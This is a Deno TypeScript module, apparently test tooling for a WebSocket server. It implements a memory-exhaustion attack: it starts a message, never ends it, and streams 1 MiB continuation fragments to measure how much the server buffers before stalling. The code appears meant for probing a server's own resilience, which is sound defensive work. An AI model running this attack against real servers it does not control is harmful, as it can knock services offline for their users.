// Owns a message in fragments without an end: the attack on a server's memory that needs one anonymous socket.

import { type Address } from "./connection.ts";
import { encodeFrame, opcodes, openRawSocket, type RawSocket } from "./websocket.ts";

const mib = 2 ** 20;
const continuation = encodeFrame({
  opcode: opcodes.continuation,
  payload: new Uint8Array(mib).fill(0x61),
  isFinal: false,
});

export interface FragmentedMessage {
  readonly socket: RawSocket;
  /**
   * Sends fragments of 1 MiB, and returns how many the server took. Stops before `countMax` when the connection ends, or
   * when the server takes nothing for `stallMs`.
   */
  send(countMax: number, options?: { stallMs?: number }): Promise<number>;
  finish(): Promise<boolean>;
}

export async function beginFragments(
  address: Address,
  { opcode = opcodes.text, path }: { opcode?: number; path?: string } = {},
): Promise<FragmentedMessage> {
  const socket = await openRawSocket(address, path);
  if (!await socket.hears('"hello"')) throw new Error("The server did not greet the socket.");
  await socket.send({ opcode, payload: "a", isFinal: false });
  return {
    socket,
    async send(countMax, { stallMs = 5_000 } = {}) {
      for (let sent = 0; sent < countMax; sent++) {
        if (!await Promise.race([socket.sendBytes(continuation), after(stallMs)])) return sent;
      }
      return countMax;
    },
    finish: () => socket.send({ opcode: opcodes.continuation, payload: "a" }),
  };
}

function after(ms: number): Promise<false> {
  return new Promise((resolve) => {
    const timer = setTimeout(() => resolve(false), ms);
    Deno.unrefTimer(timer);
  });
}
